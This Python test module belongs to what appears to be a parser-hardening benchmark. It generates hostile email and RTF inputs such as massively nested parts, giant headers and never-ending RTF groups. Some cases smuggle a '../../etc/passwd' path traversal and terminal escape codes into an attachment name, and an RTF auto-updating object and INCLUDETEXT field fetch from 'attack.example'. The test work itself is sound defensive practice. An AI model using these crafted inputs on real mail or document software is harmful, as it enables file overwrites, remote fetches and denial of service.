"""Mails and RTF: parts, headers, groups."""

from bench.hostile.shapes import MB, MORE, REPORT, Case, Cases, Fails, Got, Reads, numbered, repeated

HEAD = (
    "From: Ilmar Daily <desk@ilmar.example>\nTo: all@news.example\nSubject: Twelve killed in Tarsa\n"
    "Date: Sun, 02 Jun 2024 10:00:00 +0000\nMIME-Version: 1.0\n"
)
PLAIN = "Content-Type: text/plain; charset=utf-8\n\n"


def mail(body: str, more: str = "", head: str = HEAD) -> bytes:
    """A mail with these headers more, a blank line and this body."""
    return (head + more + "\n" + body).encode("utf-8", "surrogateescape")


def parts(count: int) -> bytes:
    """A mail of so many parts, the report in the first."""
    first = f"--b\n{PLAIN}{REPORT}\n\n{MORE}\n"
    return mail(first + "--b\n\nx\n" * count + "--b--\n", "Content-Type: multipart/mixed; boundary=b\n")


def inside(count: int) -> bytes:
    """Parts in each other, the report in the innermost."""
    opened = numbered(lambda n: f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n", count)
    return mail(f"{opened}--b{count}\n{PLAIN}{REPORT}\n\n{MORE}\n", "Content-Type: multipart/mixed; boundary=b0\n")


def forwarded(count: int) -> bytes:
    """Mails in each other."""
    one = "Content-Type: message/rfc822\n\n" + HEAD
    return mail(REPORT, one * count, HEAD)


def rtf(inner: str) -> bytes:
    """An RTF file with this in front of the report."""
    return (
        r"{\rtf1\ansi\deff0 " + inner + r"\par " + REPORT + r"\par " + MORE.replace("“", r"\ldblquote ").replace("”", r"\rdblquote ") + "}"
    ).encode()


def safe_names(got: Got) -> str | None:
    """Names of attachments are kept as words, and nothing is written by them."""
    words = [r.get("words") or "" for record in got.records for r in record["report"]["residue"]]
    return None if any("passwd" in w for w in words) else "the attachment's name is not kept"


def cases() -> Cases:
    """The cases."""
    text = f"{REPORT}\n\n{MORE}\n"
    attachment = (
        "--b\n" + PLAIN + text + "--b\nContent-Type: application/pdf\n"
        'Content-Disposition: attachment; filename="../../etc/passwd\u202e\x1b[2J"\nContent-Transfer-Encoding: base64\n\n'
    )
    return (
        Case("parts.eml", "a mail of a million parts", lambda: parts(1_000_000), Fails(("OutOfBounds",)), heavy=True),
        Case("thousand.eml", "a mail of a thousand parts", lambda: parts(1_000)),
        Case("nested.eml", "a mail whose parts nest 3,000 deep", lambda: inside(3_000), Fails(("OutOfBounds",)), heavy=True),
        Case("nested30.eml", "a mail whose parts nest 30 deep", lambda: inside(30)),
        Case("forwarded.eml", "5,000 mails in each other", lambda: forwarded(5_000), Fails(("OutOfBounds",)), heavy=True),
        Case("headers.eml", "500,000 headers", lambda: mail(text, "X-A: b\n" * 500_000 + PLAIN.rstrip() + "\n"), heavy=True),
        Case(
            "subject.eml",
            "a subject of 50 kB, each word of it encoded",
            lambda: mail(text, "", HEAD.replace("Twelve", "=?utf-8?q?Twelve?= " * 2_500)),
            heavy=True,
        ),
        Case(
            "folded.eml",
            "a header folded 300,000 times, encoded words in it",
            lambda: mail(text, "References:" + " =?utf-8?b?YQ==?=\n" * 300_000),
            heavy=True,
        ),
        Case(
            "type.eml",
            "a content type with 100,000 parameters",
            lambda: mail(text, "Content-Type: text/plain" + numbered(lambda n: f"; a*{n}*=b", 100_000) + "\n"),
            heavy=True,
        ),
        Case(
            "addresses.eml",
            "a sender of 200,000 groups and comments",
            lambda: mail(text, "", HEAD.replace("Ilmar Daily <", "((((a:" * 50_000 + "<")),
            heavy=True,
        ),
        Case("charset.eml", "a character set that is none", lambda: mail(text, 'Content-Type: text/plain; charset="no-such\x1b[2J"\n')),
        Case(
            "coding.eml",
            "a transfer encoding that is none, a date that is none",
            lambda: mail(
                text,
                "Content-Type: text/plain\nContent-Transfer-Encoding: x-none\n",
                HEAD.replace("02 Jun 2024 10:00", "99 Jun 99999 99:99"),
            ),
        ),
        Case(
            "broken.eml",
            "base64 that is damaged",
            lambda: mail(
                "VGhlIE9za2Vs\xff%%%IG1pbmlzdHJ5IHNhaWQ=", "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n"
            ),
            Reads(holds="The Oskel"),
        ),
        Case(
            "names.eml",
            "an attachment whose name leads elsewhere",
            lambda: mail(attachment + "eA==\n--b--\n", "Content-Type: multipart/mixed; boundary=b\n"),
            Reads(also=safe_names),
        ),
        Case(
            "attached.eml",
            "an attachment of 40 MB",
            lambda: mail(attachment + ("A" * 76 + "\n") * (40 * MB // 77) + "--b--\n", "Content-Type: multipart/mixed; boundary=b\n"),
            heavy=True,
        ),
        Case(
            "lines.eml",
            "a mail of 20 million lines",
            lambda: mail(text + "\n" * 20_000_000, PLAIN.rstrip() + "\n"),
            Fails(("OutOfBounds",)),
            heavy=True,
        ),
        Case(
            "empty.eml", "a mail without a body", lambda: mail("", "Content-Type: multipart/mixed; boundary=b\n"), Fails(("NoTextFound",))
        ),
        Case("groups.rtf", "RTF with 500,000 groups in each other", lambda: rtf("{" * 500_000), heavy=True),
        Case("words.rtf", "RTF with 500,000 control words", lambda: rtf(r"\pard\b0\fs24 " * 170_000), heavy=True),
        Case(
            "numbers.rtf",
            "RTF with numbers beyond all characters",
            lambda: rtf(r"\u99999999999999999? \u-99999? \u55296? \'zz \bin99999999999 "),
        ),
        Case("hex.rtf", "RTF with a picture of 20 MB", lambda: rtf(r"{\pict\pngblip " + repeated("89504e47", 20 * MB) + "}"), heavy=True),
        Case(
            "object.rtf",
            "RTF with an object and a field that would fetch",
            lambda: rtf(
                r"{\object\objautlink\objupdate{\*\objdata 0105}}{\field{\*\fldinst INCLUDETEXT http://attack.example/x}{\fldrslt }}"
            ),
        ),
        Case(
            "fields.rtf",
            "RTF with 20,000 links that never end",
            lambda: rtf(r"{\field{\*\fldinst{ HYPERLINK \"x " * 20_000),
            Fails(("BadOffice",)),
            heavy=True,
        ),
        Case("open.rtf", "RTF that never ends", lambda: rtf("").rstrip(b"}") + b"\\" * 100_000),
    )
